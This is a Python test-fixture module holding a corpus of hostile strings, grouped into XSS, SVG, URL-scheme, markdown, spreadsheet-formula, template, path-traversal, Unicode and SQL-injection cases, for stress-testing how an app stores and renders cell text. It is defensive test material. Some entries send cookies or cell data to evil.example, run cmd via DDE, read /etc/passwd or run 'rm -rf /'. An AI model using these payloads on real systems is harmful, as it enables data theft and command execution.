"""Texts that are out to do harm, by what they try to be; all that a cell may hold is plain text.

Whatever would run calls ``alert``, ``prompt``, ``confirm`` or ``eval``, or sets ``window.hacked``;
whatever would be fetched or opened leads to ``evil.example``.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from itertools import cycle
from unicodedata import category
from urllib.parse import quote

from tests.factories import Rows

__all__ = ["CELLS", "CORPUS", "HALVES", "LONGEST", "TEXTS", "bare_tables", "seen", "tables"]

CORPUS: Mapping[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>window.hacked=1</script>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "';alert(1)//",
        '";alert(1)//',
        "`-alert(1)-`",
        "${alert(1)}",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<script/x>alert(1)</script/x>",
        "<script\n>alert(1)</script\n>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<script type=module>import('//evil.example/x.js')</script>",
        "<script>fetch('//evil.example/?'+document.cookie)</script>",
    ),
    "html": (
        '<img src=x onerror="alert(1)">',
        "<img src=x onerror=window.hacked=1>",
        "<img/src=`x`onerror=alert(1)>",
        '<img src="//evil.example/pixel.gif">',
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)//",
        "<iframe src=javascript:alert(1)></iframe>",
        '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        "<embed src=//evil.example/x.swf>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div style=\"background:url('//evil.example/a')\">x</div>",
        '<div style="position:fixed;inset:0;background:#fff">x</div>',
        "<style>*{display:none}</style>",
        "<style>@import '//evil.example/x.css';</style>",
        '<link rel=stylesheet href="//evil.example/x.css">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<base href="//evil.example/">',
        '<form action="//evil.example"><input name=a><button>x</button></form>',
        "<button formaction=javascript:alert(1)>x</button>",
        '<a href="javascript:alert(1)">x</a>',
        "<a href='//evil.example' onclick=alert(1)>x</a>",
        "<a href=java&#x73;cript:alert(1)>x</a>",
        "<table background=javascript:alert(1)><td>x</table>",
        "<template><img src=x onerror=alert(1)></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
        "<custom-tag onclick=alert(1)>x</custom-tag>",
        "<!-- comment",
        "<![CDATA[ <b>x</b> ]]>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "&e; &nbsp; &lt; &copy &#0; &#x110000;",
        "</div></div></body></html>",
        "<b><i><u>x",
        "< b > not a tag < / b >",
    ),
    "svg": (
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=//evil.example/x.js /></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<svg><image href="//evil.example/a.png"/></svg>',
        "</text><script>alert(1)</script><text>",
        "</tspan></text></svg><img src=x onerror=alert(1)>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        '<math href="javascript:alert(1)">x</math>',
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript://evil.example/%0Aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://evil.example/1",
        "//evil.example/x",
        "\\\\evil.example\\share\\x",
        "http://evil.example/<script>alert(1)</script>",
        'https://evil.example/"onmouseover="alert(1)',
        "https://user:password@evil.example/",
        "www.evil.example",
        "a@evil.example",
        "mailto:a@evil.example?bcc=b@evil.example",
        "ftp://evil.example/x",
        "https://evil.example\\@example.org/",
        "http://[::1",
        "https://evil.example/%00%0d%0aSet-Cookie:x=1",
        "ms-word:ofe|u|http://evil.example/x.docx",
    ),
    "markdown": (
        "**bold** __bold__ *it* _it_ ~~gone~~",
        "`code` ``co`de``",
        "```\nfence\n```",
        "# heading",
        "heading\n===",
        "- item",
        "* item",
        "+ item",
        "1. item",
        "1) item",
        "- [x] task",
        "> quote",
        "---",
        "***",
        "    indented code",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](http://evil.example 'title')",
        "![x](//evil.example/pixel.gif)",
        "![x](x'onerror=alert(1) ')",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[^1]\n\n[^1]: note",
        "<http://evil.example>",
        "<javascript:alert(1)>",
        "line  \nbreak\\\nbreak",
        "\\*not\\* \\\\ \\",
        "x](javascript:alert(1)) [y",
        "](http://evil.example)",
        "a**b**c_d_e",
        "~sub~ ^sup^ ==mark== ++ins++",
        ":::note\nx\n:::",
        "::leaf[x]{onclick=alert(1)}",
    ),
    "streamlit": (
        ":red[x]",
        ":red-background[x]",
        ":rainbow[x] :small[x] :shimmer[x]",
        ":blue-badge[x]",
        ":green-badge[:material/check: x]",
        ":color[x]{foreground=red background=blue}",
        ":help[x]",
        ":material/home:",
        ":material_home:",
        ":streamlit:",
        ":smile: :heart: :+1:",
        ":emoji:",
        ":shortcut[x]",
        "a -> b <- c <-> d",
        "a -- b >= c <= d ~= e",
        "->",
        "--",
        ">= 1",
        "~= 2",
        "x :a: y::b:: z",
    ),
    "formulas in text": (
        "$x^2$",
        "$$\\frac{1}{2}$$",
        "$5 and $6",
        "\\(x\\) \\[y\\]",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\includegraphics{//evil.example/a.png}$",
        "$\\htmlData{onclick=alert(1)}{x}$",
        "$`x`$",
        "$\\def\\x{\\x\\x}\\x$",
        "\\input{/etc/passwd} \\write18{id}",
        "100% {off} ~ ^ _ & # \\",
    ),
    "plotly": (
        "<b>bold</b> <i>it</i> <sub>2</sub> <sup>3</sup>",
        "<br>x<br/>y",
        "<a href='javascript:alert(1)'>x</a>",
        '<a href="http://evil.example" target="_self">x</a>',
        "<span style='color:red;font-size:99px'>x</span>",
        "<em style='x:expression(alert(1))'>x</em>",
        "%{x} %{y:.2f} %{customdata[0]}",
        "x<extra>y</extra>",
        "<s>x</s> <u>x</u>",
        "&lt;b&gt;x&lt;/b&gt;",
    ),
    "formulas in sheets": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "'=1+1",
        "''=1+1",
        '="a"&"b"',
        '=HYPERLINK("http://evil.example","x")',
        '=WEBSERVICE("http://evil.example/"&A1)',
        '=IMAGE("http://evil.example/a.png")',
        "=cmd|'/c calc'!A0",
        "+cmd|'/c calc'!A0",
        "@cmd|'/c calc'!A0",
        '=DDE("cmd";"/c calc";"x")',
        "=2+5+cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff20SUM(1)",
        "%0A-3+3+cmd|' /C calc'!D2",
        ";=1+1",
        ",=1+1",
        '"=1+1',
        '=IMPORTXML("http://evil.example","//a")',
        "#REF! #NAME?",
        "{=1+1}",
    ),
    "direction": (
        "\u202egnp.exe\u202c",
        "\u202dabc",
        "\u2066left\u2069 \u2067right\u2069 \u2068first",
        "a\u2067b",
        "\u200fx\u200ey\u061cz",
        "\u05d0\u05d1 (1) abc",
        "\u0645\u0631\u062d\u0628\u0627 <b>x</b>",
        "\u202e" * 20 + "x",
        "\u2069\u2069\u202c\u202cx",
    ),
    "unseen": (
        "zero\u200bwidth\u200cin\u200dit",
        "\ufeffbyte order mark",
        "word\u2060joiner",
        "soft\u00adhyphen",
        "no\u00a0break\u2003space\u3000wide",
        "\u2028line\u2029paragraph",
        "\u200b",
        "\u3164",
        "tag\U000e0041\U000e0042s",
        "variation\ufe0f\ufe0e\U000e0100",
        "\u034f\u115f\u17b4x",
        "\ufff9a\ufffab\ufffb",
    ),
    "control": (
        "nul\x00nul",
        "bell\x07 back\x08 escape\x1b[31mred\x1b[0m",
        "unit\x1f record\x1e group\x1d file\x1c",
        "delete\x7f next\x85line",
        "vertical\x0btab form\x0cfeed",
        "tab\tin\tit",
        "carriage\rreturn",
        "line\nfeed",
        "\x1b]0;title\x07",
        "c1\x90\x9b\x9d",
        "not a letter\ufffe \uffff \U0001fffe",
        "private \ue000 \U000f0000",
    ),
    "floods": (
        "z" + "\u0300\u0301\u0302\u0303" * 20 + "algo",
        "\u0e01" + "\u0e49" * 60,
        "\ufdfd" * 20,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10,
        "W" * 400,
        "a " * 200,
        "(" * 200,
        "[" * 120 + "x" + "](y)" * 120,
        "*" * 200,
        "> " * 60 + "x",
        "<b>" * 100,
        "&" * 100,
        "_a" * 100,
        "\u4e00" * 200,
    ),
    "paths": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\Windows\\System32\\cmd.exe",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "x/../../y",
        "~/.ssh/id_rsa",
        "$HOME `id` $(id) ; rm -rf / | cat && echo",
        "CON NUL COM1 aux.csv",
        "name?.csv:stream*|<>",
        ".hidden",
        "-rf --help",
    ),
    "templates": (
        "{{7*7}} {{ config }}",
        "{% for x in y %}{% endfor %}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "%s %d %n %x %(name)s %%",
        "{} {0} {name} {0.__class__} {:>99999999}",
        "{{constructor.constructor('alert(1)')()}}",
        "[[${7*7}]] @{x} *{y}",
        "__proto__",
        "constructor",
        "toString",
        "__class__",
    ),
    "breakers": (
        'quote " in it',
        "two \"\" quotes, 'and' commas; semicolons",
        '","x","',
        '"},{"x":"',
        "}{][",
        "\\",
        '\\\\" \\n \\u0000',
        "null",
        "NULL",
        "NaN",
        "None",
        "undefined",
        "nan",
        "true",
        "N/A",
        "0x1F 1e309 -0 Infinity",
        "1/2",
        "'; DROP TABLE events; --",
        "' OR '1'='1",
        "@string{x = {y}}",
        "} \\end{document} {",
        "a#1; b#2",
        "x~y",
        "<w:t>x</w:t>",
        "_x0041_ _x005F_",
        "&amp;&quot;&apos;",
    ),
}
"""The texts, by what they try to be."""

_UNSEEN = re.compile(r"[\u2060\ufe0e\ufe0f]")


def seen(text: str) -> str:
    """Return what is left of a text to compare: no spaces at all, nothing that draws nothing."""
    return "".join(
        letter
        for letter in text
        if category(letter) not in {"Cc", "Cf", "Cs", "Cn", "Zs", "Zl", "Zp"}
        and not _UNSEEN.match(letter)
    ).replace("\ufffd", "")


TEXTS: tuple[str, ...] = tuple(dict.fromkeys(text for group in CORPUS.values() for text in group))
"""All of them, each once."""

_REFUSED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]|^\\s*#[A-Z]")

CELLS: tuple[str, ...] = tuple(t for t in TEXTS if not _REFUSED.search(t) and seen(t))
"""Those of them that may stand in a cell; the others are faults, told with their place."""

HALVES = ("half \ud83d", "\udc00 half", "\ud800\ud800", "a\udfff")
"""Halves of characters, which only JSON and Python can hold."""

LONGEST = "a" * 1_000_000
"""More letters than a cell may have."""

_SAFE = "<>\"'{}()[]|\\^`&=;:/?#@!$*+,%"
"""What an address need not escape for us to take it, as far as it can be told from two words."""


def tables(texts: Sequence[str], rows: int = 0) -> dict[str, Rows]:
    """Return a data set in every cell of whose own words stands one of the texts, in turn.

    ``rows`` is how many events and statements there are; if not given, so many that each text is
    the title of one.
    """
    say = cycle(texts).__next__
    number = rows or len(texts)
    few = range(min(number, 6))
    titles = cycle(texts)

    def word() -> str:
        return " ".join(say().replace(";", ",").split())

    return {
        "events": [
            {
                "id": f"e{n}",
                "date": f"{1990 + n % 30}-{n % 12 + 1:02}-{n % 28 + 1:02}",
                "reported_date": "1989" if n == 1 else "",
                "label": say(),
                "title": next(titles),
                "summary": say(),
                "countries": "JPN; QX" if n % 2 else "USA",
                "frameworks": f"f{n % len(few)}",
                "actors": f"a{n % len(few)}; a0",
                "importance": "core" if n < len(few) else "",
                "sources": f"s{n % len(few)}#{n + 1}",
                "quote": say(),
                "note": f"{('Disputed: ', 'Corrected: ', '')[n % 3]}{say()}",
                "own column": say(),
            }
            for n in range(number)
        ],
        "stances": [
            {
                "id": f"st{n}",
                "actor": f"a{n % len(few)}",
                "framework": f"f{n // len(few) % len(few)}",
                "stance": str(n % 5 - 2),
                "date": f"{1991 + n % 30}",
                "event": f"e{n}",
                "summary": say(),
                "condition": say(),
                "sources": f"s{n % len(few)}#{n + 2}",
                "quote": say(),
                "note": say(),
            }
            for n in range(number)
        ],
        "actors": [
            {
                "id": f"a{n}",
                "name": f"{say()} {n}",
                "native_name": say(),
                "type": ("government", "person")[n % 2],
                "country": ("JPN", "USA", "QX")[n // 2],
                "parent": f"a{n - 1}" if n % 2 else "",
                "office": f"1980/.. {word()}" if n % 2 else "",
            }
            for n in few
        ],
        "frameworks": [
            {"id": f"f{n}", "name": f"{say()} {n}", "kind": word(), "proposition": say()}
            for n in few
        ],
        "sources": [
            {
                "id": f"s{n}",
                "kind": word(),
                "title": f"{say()} {n}",
                "author": say(),
                "publisher": say(),
                "url": f"https://source.example/?{quote(say(), safe=_SAFE)}",
                "language": "en",
                "note": say(),
            }
            for n in few
        ],
        "parallels": [
            {
                "theme": say(),
                "then_event": f"e{n}",
                "now_event": f"e{(n + 1) % len(few)}",
                "summary": say(),
                "sources": f"s{n}#1",
                "note": f"Disputed: {say()}",
            }
            for n in few
        ],
        "eras": [{"name": say(), "date": f"{1990 + 5 * n}/{1994 + 5 * n}"} for n in few],
        "countries": [{"id": "QX", "name": say()}],
    }


def bare_tables(texts: Sequence[str]) -> dict[str, Rows]:
    """Return a data set of two tables whose actors, frameworks, sources and kinds are the texts."""
    names = [" ".join(text.replace(";", ",").split()) for text in texts]
    names = [name for name in names if name]
    return {
        "events": [
            {
                "date": str(1990 + n % 30),
                "title": name,
                "kind": name,
                "actors": name,
                "frameworks": name,
                "sources": name,
            }
            for n, name in enumerate(names)
        ],
        "stances": [
            {"actor": name, "framework": names[n // 5], "stance": str(n % 5 - 2), "date": "1994"}
            for n, name in enumerate(names)
        ],
    }
